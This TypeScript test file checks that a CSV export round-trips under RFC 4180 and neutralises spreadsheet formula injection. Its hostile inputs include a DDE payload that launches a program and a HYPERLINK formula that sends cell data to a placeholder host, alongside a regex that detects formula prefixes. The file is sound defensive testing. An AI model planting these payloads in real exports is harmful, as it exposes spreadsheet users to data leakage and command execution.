import fc from "fast-check";
import { expect, test } from "vitest";
import { type Cell, csvOf, unguarded } from "#lib/domain/exchange/csv.ts";
import { seeded } from "../../support/random.ts";

/**
 * RFC 4180's grammar, each alternative as it stands there; TEXTDATA is widened to all that is no comma, quote, CR or LF.
 *   file = record *(CRLF record) [CRLF]; record = field *(COMMA field); field = escaped / non-escaped
 */
function parse(text: string): string[][] {
  const field = /"(?<escaped>(?:[^"]|"")*)"|(?<plain>[^",\r\n]*)/y;
  const rows: string[][] = [];
  let at = 0;
  while (at < text.length) {
    const row: string[] = [];
    for (;;) {
      field.lastIndex = at;
      const { escaped, plain } = field.exec(text)?.groups ?? {};
      at = field.lastIndex;
      row.push(escaped?.replaceAll('""', '"') ?? plain ?? "");
      if (text[at] !== ",") break;
      at += 1;
    }
    if (text.slice(at, at + 2) !== "\r\n")
      throw new Error(`no CRLF at ${at}: ${JSON.stringify(text.slice(at, at + 20))}`);
    at += 2;
    rows.push(row);
  }
  return rows;
}

/** What spreadsheets take for a formula, and the control characters of T12. */
const dangerous = /^[\s\p{C}]*[=+\-@＝＋－＠]|^[\t\r\0]/u;

const heads = ["=", "+", "-", "@", "\t", "\r", "\0", "＝", "＠", " =", "\u200b=", "'=", "''+", "'", '"=', "\n", ""];
const bodies = [
  'cmd|" /C calc"!A0',
  'HYPERLINK("http://x.example/?"&A1,"click")',
  "1+1",
  "SUM(A1:A9)*2",
  "O'Brien, Ann",
  'said "no", twice',
  "two\r\nlines",
  "two\nlines",
  "0.5",
  "José; Łukasz\u0301",
  "محمد",
  "😀,😀",
  "",
  '"',
  '""',
  ",",
  "x\0y",
  "a\tb",
];
const random = seeded(12);
const one = <T>(from: readonly T[]): T => from[Math.floor(random() * from.length)] as T;
const hostile = [
  ...heads.flatMap((head) => bodies.map((body) => head + body)),
  ...Array.from({ length: 60 }, () => one(heads) + one(bodies) + one(heads) + one(bodies)),
];

test("three hundred hostile names and answers come back as they were, and none is a formula", () => {
  expect(hostile.length).toBeGreaterThan(300);
  const rows = hostile.map((name, at) => [name, at, hostile[hostile.length - 1 - at] ?? "", null]);
  const cells = parse(csvOf(rows));
  expect(cells.flat().filter((cell) => dangerous.test(cell))).toEqual([]);
  expect(cells.map(([name = "", n, answer = "", none]) => [unguarded(name), n, unguarded(answer), none])).toEqual(
    rows.map(([name, n, answer]) => [name, String(n), answer, ""]),
  );
});

test("any table of texts comes back", () =>
  fc.assert(
    fc.property(
      fc.array(
        fc.array(fc.oneof(fc.string({ unit: "binary" }), fc.constantFrom(...hostile)), { minLength: 1, maxLength: 5 }),
      ),
      (rows) => {
        expect(parse(csvOf(rows)).map((row) => row.map(unguarded))).toEqual(rows);
      },
    ),
    { numRuns: 500 },
  ));

test("our own numbers stay numbers, also below zero", () => {
  const row: Cell[] = [-0.08, 12, 0.5, null, "-0.08"];
  expect(csvOf([row])).toBe("-0.08,12,0.5,,'-0.08\r\n");
});

test("plain texts are written plainly", () => {
  expect(
    csvOf([
      ["Taker", "Points"],
      ["Ann Lee", 7],
    ]),
  ).toBe("Taker,Points\r\nAnn Lee,7\r\n");
  expect(csvOf([[""], ["", ""]])).toBe('""\r\n,\r\n');
});
